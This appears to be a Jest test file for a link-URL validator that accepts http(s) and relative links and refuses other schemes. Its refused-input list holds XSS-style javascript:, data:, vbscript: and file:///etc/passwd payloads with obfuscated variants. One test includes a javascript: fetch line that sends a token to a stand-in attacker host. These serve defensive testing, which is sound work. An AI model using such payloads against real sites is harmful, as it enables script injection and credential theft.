import { isSafeLinkUrl, linkUrlRefusal } from './link-url';

describe('linkUrlRefusal', () => {
  it.each([
    'https://example.com/posts/1?a=1&b=2#c',
    'HTTP://example.com',
    '/posts/1',
    'posts/1',
    '?tab=2&x=1',
    '#top',
    '//cdn.example.com/x',
    '',
  ])('accepts %j', (url) => {
    expect(linkUrlRefusal(url)).toBeUndefined();
  });

  it.each([
    'javascript:alert(1)',
    'JavaScript:alert(1)',
    '  javascript:alert(1)',
    '\u0001javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    'data:text/html;base64,PHNjcmlwdD4=',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'mailto:a@example.com',
    'javascript&colon;alert(1)',
    '&#106;avascript:alert(1)',
    '1javascript:alert(1)',
    '/ok\u0000javascript:',
  ])('refuses %j', (url) => {
    expect(linkUrlRefusal(url)).toMatch(/^must /);
    expect(isSafeLinkUrl(url)).toBe(false);
  });

  it('names the refused scheme but never repeats the URL', () => {
    const reason = linkUrlRefusal('javascript:fetch("https://evil.example/?token=secret")');
    expect(reason).toBe('must be an http(s) or relative URL (javascript: is not allowed)');
    expect(reason).not.toContain('secret');
  });
});
